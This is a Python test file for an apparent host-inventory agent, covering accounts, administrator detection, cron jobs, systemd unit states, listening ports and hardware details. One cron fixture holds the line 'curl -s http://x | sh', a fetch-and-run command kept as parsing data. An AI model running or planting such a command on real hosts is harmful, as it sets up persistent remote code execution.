"""Accounts, jobs, units, listening ports and the machine, as this host or a made one has them."""

from __future__ import annotations

import json
import os
import pwd
import socket
from pathlib import Path

from tocsin.agent.host.sockets import listening_sockets
from tocsin.agent.inventory.accounts import accounts
from tocsin.agent.inventory.jobs import cron_jobs, units
from tocsin.agent.inventory.machine import machine
from tocsin.agent.inventory.ports import listening_ports


def test_accounts_are_those_of_the_system() -> None:
    """Every entry that the C library has from its files, with its primary group."""
    found = {item.key: item.values for item in accounts(Path("/"))}
    for entry in pwd.getpwall():
        values = found[entry.pw_name]
        assert (values["user.uid"], values["unmapped.inventory.home"]) == (str(entry.pw_uid), entry.pw_dir)
        groups = json.loads(str(values["user.groups"]))
        assert not groups or str(entry.pw_gid) in {group["uid"] for group in groups}


def test_who_may_become_root_is_an_administrator(tmp_path: Path) -> None:
    """By id 0 or by a group; persons and system accounts are told apart."""
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/passwd").write_text(
        "toor:x:0:0::/root:/bin/sh\nann:x:1000:1000:Ann,,,:/home/ann:/bin/bash\n"
        "bob:x:1001:1001::/home/bob:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\nbroken\n"
    )
    (tmp_path / "etc/group").write_text("sudo:x:27:ann\nann:x:1000:\nbad\n")
    found = {item.key: item.values for item in accounts(tmp_path)}
    assert {name: values["user.type_id"] for name, values in found.items()} == {"toor": 2, "ann": 2, "bob": 1, "www": 3}
    assert found["ann"]["user.full_name"] == "Ann"
    assert json.loads(str(found["ann"]["user.groups"])) == [
        {"name": "sudo", "uid": "27"},
        {"name": "ann", "uid": "1000"},
    ]


def test_jobs_of_cron_have_schedule_user_and_command(tmp_path: Path) -> None:
    """System tables name the user, a user's table does not; settings and comments are no jobs."""
    for folder in ("etc/cron.d", "var/spool/cron/crontabs", "etc/cron.daily"):
        (tmp_path / folder).mkdir(parents=True)
    (tmp_path / "etc/crontab").write_text(
        "SHELL=/bin/sh\n# m h\n17 *\t* * *\troot  cd / && run-parts /etc/cron.hourly\n"
    )
    (tmp_path / "etc/cron.d/x").write_text("@reboot www /usr/bin/x --once\n")
    (tmp_path / "var/spool/cron/crontabs/ann").write_text("MAILTO = a@b\n*/5 * * * * curl -s http://x | sh\n")
    (tmp_path / "etc/cron.daily/rotate").write_text("#!/bin/sh\n")
    (tmp_path / "etc/cron.daily/rotate").chmod(0o755)
    (tmp_path / "etc/cron.daily/README").write_text("not run")
    names = ("unmapped.inventory.schedule", "job.user.name", "job.cmd_line")
    assert [tuple(item.values[name] for name in names) for item in cron_jobs(tmp_path)] == [
        ("17 *\t* * *", "root", "cd / && run-parts /etc/cron.hourly"),
        ("@reboot", "www", "/usr/bin/x --once"),
        ("*/5 * * * *", "ann", "curl -s http://x | sh"),
        ("@daily", "root", "/etc/cron.daily/rotate"),
    ]


def test_units_are_enabled_disabled_static_or_masked(tmp_path: Path) -> None:
    """The administrator's file counts before the package's of the same name."""
    ours, packaged = tmp_path / "etc/systemd/system", tmp_path / "usr/lib/systemd/system"
    (ours / "multi-user.target.wants").mkdir(parents=True)
    packaged.mkdir(parents=True)
    (packaged / "a.service").write_text("[Service]\nExecStart=/bin/a\nExecStart=/bin/b\n[Install]\nWantedBy=x\n")
    (packaged / "b.service").write_text("[Service]\nExecStart=/bin/packaged\n[Install]\n")
    (ours / "b.service").write_text("[Service]\nExecStart=/bin/ours\n[Install]\n")
    (packaged / "c.timer").write_text("[Timer]\n")
    (packaged / "d.service").symlink_to("/dev/null")
    (packaged / "e.target").write_text("")
    (ours / "multi-user.target.wants/a.service").symlink_to(packaged / "a.service")
    found = {item.key: item.values for item in units(tmp_path)}
    states = {name: values["unmapped.inventory.enabled"] for name, values in found.items()}
    assert states == {"a.service": "enabled", "b.service": "disabled", "c.timer": "static", "d.service": "masked"}
    assert found["a.service"]["unmapped.inventory.exec"] == "/bin/a; /bin/b"
    assert found["b.service"]["unmapped.inventory.exec"] == "/bin/ours"


def test_ports_that_this_process_listens_on_are_found_with_it() -> None:
    """TCP and UDP, IPv4 and IPv6; a connected socket and one that is not listening are left out."""
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.create_server(("::1", 0), family=socket.AF_INET6) as tcp6,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.create_connection(tcp.getsockname()) as connected,
    ):
        udp.bind(("127.0.0.1", 0))
        own = [("tcp", *tcp.getsockname()[:2]), ("tcp", *tcp6.getsockname()[:2]), ("udp", *udp.getsockname())]
        sockets = {each[:3] for each in listening_sockets()}
        found = {item.key: item.values for item in listening_ports()}
        assert set(own) <= sockets
        assert ("tcp", *connected.getsockname()) not in sockets
        for protocol, address, port in own:
            values = found[f"{protocol}:{address}:{port}"]
            assert values["process.pid"] == os.getpid()
            assert str(values["process.file.path"]).startswith("/")


def test_the_machine_tells_its_hardware() -> None:
    """What the kernel says of processors and memory, the same at every look."""
    (item,) = machine()
    assert item.values["device.hw_info.cpu_count"] == os.cpu_count()
    total = next(line for line in Path("/proc/meminfo").read_text().splitlines() if line.startswith("MemTotal"))
    assert item.values["device.hw_info.ram_size"] == int(total.split()[1]) // 1024
    assert [item] == list(machine())
